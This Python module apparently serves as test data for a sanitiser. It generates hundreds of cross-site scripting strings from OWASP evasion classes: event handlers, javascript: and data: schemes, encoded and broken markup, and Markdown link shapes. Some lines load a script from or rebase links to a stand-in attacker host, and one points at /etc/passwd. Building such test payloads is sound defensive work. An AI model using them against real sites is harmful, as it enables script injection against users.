"""Strings that have broken other sites, made from the classes that OWASP describes, and bodies that nobody would write.

Cross Site Scripting Prevention, XSS Filter Evasion (https://owasp.org/www-community/xss-filter-evasion-cheatsheet):
elements, handlers, addresses, encodings, broken markup, and what Markdown itself would turn into markup.
"""

from __future__ import annotations

from itertools import product

SCRIPT = "alert(1)"
ELEMENTS = (
    "script svg img iframe object embed form input button textarea select style link meta base math table body html "
    "video audio source details marquee template noscript xmp plaintext frameset isindex animate set image "
    "use foreignObject"
).split()
HANDLERS = (
    "onerror onload onclick onfocus onmouseover ontoggle onanimationend onbegin onpointerenter onbeforetoggle".split()
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd#",
    "feed:javascript:",
    "view-source:javascript:",
)
QUOTED = ("", '"', "'", "`")
BROKEN = (
    "<scr<script>ipt>{s}</scr</script>ipt>",
    "<script/x>{s}</script>",
    "<script\n>{s}</script\n>",
    "<<script>{s}//<</script>",
    "<script src=//evil.example/x.js></script>",
    '<IMG """><SCRIPT>{s}</SCRIPT>">',
    "<svg><script>{s}</script>",
    "<svg><style><img src=x onerror={s}>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={s}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={s}>",
    "<!--><script>{s}</script>-->",
    "<![CDATA[<script>{s}</script>]]>",
    "<?xml-stylesheet href='javascript:{s}'?>",
    "</p><script>{s}</script>",
    "</textarea><script>{s}</script>",
    "</title><script>{s}</script>",
    "&lt;script&gt;{s}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{s}",
    "\\u003cscript\\u003e{s}\\u003c/script\\u003e",
    "%3Cscript%3E{s}%3C/script%3E",
    "+ADw-script+AD4-{s}+ADw-/script+AD4-",
    "\ufeff<script>{s}</script>",
    "<scr\x00ipt>{s}</scr\x00ipt>",
    "\u2028<script>{s}</script>\u2029",
    "<img src=x onerror\u00a0=\u00a0{s}>",
    "{{{{ 7*7 }}}}{{% raw %}}{s}",
    "${{{s}}} #{{{s}}} <%= {s} %>",
    "<a href='//evil.example'>x</a><base href='//evil.example'>",
)
MARKDOWN = (
    "[words]({a})",
    "[words](<{a}>)",
    '[words]({a} "title")',
    "![words]({a})",
    "[words][one]\n\n[one]: {a}",
    "<{a}>",
    "[call it]({a}\n)",
    "[[call words -> {a}]]",
    "[[note {a}]]",
    "[[claim {a}]]",
    "[[tees {a}]]",
    "[[video {a}]]",
    "[[picture north-star: {a}]]",
    "> [words]({a})",
    "- [words]({a})",
    "## [words]({a})",
    "```{a}\n{a}\n```",
    "`{a}`",
)


def strings() -> list[str]:
    """More than 600 of them, each once."""
    made = [
        f"<{one} {on}={q}{SCRIPT}{q}>" for (one, on), q in zip(product(ELEMENTS, HANDLERS), QUOTED * 99, strict=False)
    ]
    made += [f"<{one}>{SCRIPT}</{one}>" for one in ELEMENTS]
    made += [one.format(s=SCRIPT) for one in BROKEN]
    made += [shape.format(a=scheme + SCRIPT) for shape, scheme in product(MARKDOWN, SCHEMES)]
    return list(dict.fromkeys(made))
